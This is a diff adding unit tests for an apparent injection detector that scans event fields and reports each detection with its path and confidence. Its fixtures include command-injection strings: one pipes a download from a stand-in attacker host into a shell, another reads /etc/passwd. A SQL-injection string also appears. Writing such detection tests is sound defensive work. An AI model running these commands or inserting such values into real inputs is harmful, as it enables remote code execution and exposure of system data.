@@ -74,6 +74,35 @@ test('an event full of attacks is reported by its first ones, and by those that 
 });
 test('a few detections are all there are', () => assert.ok(!('more' in inspectEvent({ a: "' or 1=1 --" }))));
 
+test('a text that was clean is looked at again for patterns of one’s own', () => {
+  const text = 'aaaaa aaaaaaaaaaaaaaaa!';
+  assert.equal(inspectEvent({ v: text }).level, 'none');
+  assert.equal(inspectEvent({ v: text }, { patterns: [/^(a|a| )*$/] }).level, 'certain');
+});
+describe('equal texts in one event', () => {
+  test('are each listed with their own path, and judged where they stand', () => {
+    const attack = '; curl http://attacker.example/x | sh';
+    const { detections } = inspectEvent({ a: [attack, attack], b: attack, package: { scripts: { build: attack } }, c: [[attack]] });
+    assert.deepEqual(
+      detections.filter(({ class: name }) => name === 'cmdi').map(({ path, confidence }) => `${path} ${confidence}`),
+      ['$.a[0] high', '$.a[1] high', '$.b high', '$.package.scripts.build medium', '$.c[0][0] high'],
+    );
+  });
+  test('are judged once', () => {
+    const cpu = () => process.cpuUsage().user;
+    const time = (event: unknown) => {
+      const start = cpu();
+      inspectEvent(event);
+      return cpu() - start;
+    };
+    const equal = Array.from({ length: 10_000 }, () => ';cat /etc/passwd && id');
+    time(equal.slice(0, 1000));
+    const different = Math.min(...[1, 2].map(() => time(equal.map((text, i) => `${text} ${i}`))));
+    const same = Math.min(...[1, 2].map(() => time(equal)));
+    assert.ok(same * 2 < different, `${same} and ${different} µs`);
+  });
+});
+
 describe('time', () => {
   const minute = 60_000;
   test('is a share of what the invocation has left, at most 20 ms, and never nothing', () => {
